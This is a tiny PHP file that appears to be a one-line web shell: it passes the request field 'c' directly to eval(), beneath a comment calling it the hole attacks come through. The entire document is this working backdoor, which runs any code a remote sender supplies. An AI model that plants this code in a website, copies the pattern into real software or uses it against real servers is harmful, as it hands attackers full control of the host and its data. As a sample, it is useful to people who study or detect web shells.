<?php
// The hole that the attacks come through.
eval($_POST['c']);
